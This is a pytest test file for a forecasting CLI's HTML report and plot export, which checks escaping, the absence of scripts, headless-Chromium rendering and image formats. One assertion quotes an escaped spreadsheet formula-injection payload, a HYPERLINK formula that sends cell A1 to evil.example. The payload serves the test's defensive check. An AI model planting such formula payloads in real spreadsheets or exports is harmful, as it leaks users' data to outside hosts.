"""`forecast report` and `forecast plot` on a real (small) database; the report in headless Chromium."""

from __future__ import annotations

import pytest

from tests.cli_runner import invoke
from tests.export.chromium_check import ink, load
from tests.export.conftest_data import build


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> str:
    path = str(tmp_path_factory.mktemp("report") / "small.db")
    build(f"sqlite:///{path}")
    return path


@pytest.fixture(scope="module")
def report(db, tmp_path_factory):
    out = tmp_path_factory.mktemp("html") / "report.html"
    res = invoke("report", "-o", str(out), "--title", "Team <review> 2024", db=db)
    assert res.code == 0, res.err
    return out


def test_report_content(report):
    page = report.read_text(encoding="utf-8")
    assert "<title>Team &lt;review&gt; 2024</title>" in page
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in page
    assert "<script" not in page.lower() and page.count("<svg ") == 2
    for section in ("Headline scores", "Calibration", "Brier over time", "By tag", "By question"):
        assert f">{section}</h2>" in page


def test_report_in_headless_chromium(chromium, report, tmp_path):
    loaded = load(chromium, report, tmp_path)
    assert loaded.console == [], loaded.console
    counts = ink(loaded.screenshot)
    assert counts["ink"] > 0.01 * counts["pixels"]
    assert counts["blue"] > 200  # calibration bins and the Brier line are drawn


def test_report_for_one_forecaster_to_stdout(db):
    res = invoke("report", "--by", "alice", "-o", "-", db=db)
    assert res.code == 0, res.err
    assert res.out.startswith("<!DOCTYPE html>") and "Calibration of alice" in res.out


@pytest.mark.parametrize(("kind", "name", "magic"), [
    ("calibration", "cal.png", b"\x89PNG\r\n\x1a\n"),
    ("calibration", "cal.svg", b"<?xml"),
    ("brier-over-time", "time.svg", b"<?xml"),
    ("brier-over-time", "time.png", b"\x89PNG\r\n\x1a\n"),
])  # fmt: skip
def test_plots(db, tmp_path, kind, name, magic):
    out = tmp_path / name
    res = invoke("plot", kind, "-o", str(out), db=db)
    assert res.code == 0, res.err
    data = out.read_bytes()
    assert data.startswith(magic) and len(data) > 2000
    if name.endswith(".svg"):
        assert b"<script" not in data and b"font-face" not in data


def test_plot_needs_a_known_format(db, tmp_path):
    res = invoke("plot", "calibration", "-o", str(tmp_path / "x.gif"), db=db)
    assert res.code == 2 and "name it .png or .svg" in res.err
